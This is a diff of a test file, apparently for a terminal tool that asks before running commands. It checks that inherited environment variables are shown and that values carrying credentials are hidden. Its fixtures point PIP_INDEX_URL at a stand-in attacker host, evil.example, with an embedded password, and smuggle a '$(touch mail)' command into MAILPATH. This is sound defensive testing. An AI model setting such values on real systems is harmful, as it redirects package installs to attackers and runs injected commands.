@@ -107,7 +107,8 @@ describeContained("the built program and contained commands", () => {
     it("A command that runs for real is asked about with what earlier ones set; `!` has none of it", async () => {
         const terminal = place.open(["--model", "offline"]);
         await terminal.waitFor(/❯ *$/);
-        const set = "export PIP_INDEX_URL=http://ada:lovelace@evil.example/ MAILCHECK=0";
+        const withPassword = "EXTRA_INDEX=http://ada:lovelace@evil.example/";
+        const set = `export PIP_INDEX_URL=http://evil.example/ ${withPassword} MAILCHECK=0`;
         const evil = `${set} MAILPATH='${place.repository}/a.txt?$(touch mail)'`;
         terminal.type(`run ${evil}\r`);
         await terminal.waitFor(/ended with 0/);
@@ -118,9 +119,10 @@ describeContained("the built program and contained commands", () => {
         );
         await terminal.waitFor("Run this command?");
         const screen = terminal.screen().split("Run this command?").at(-1) ?? "";
-        expect(screen).to.contain("with PIP_INDEX_URL=http://[redacted]@evil.example/");
+        expect(screen).to.contain("with PIP_INDEX_URL=http://evil.example/");
         expect(screen).to.contain("It runs with what earlier commands set.");
-        expect(screen).not.to.contain("lovelace");
+        // A value that holds a credential is not kept at all.
+        expect(screen).not.to.contain("EXTRA_INDEX");
         await answer(terminal, "yes");
         await terminal.waitFor(/real \[http/);
         terminal.type("! echo later [$PIP_INDEX_URL$MAILPATH]\r");
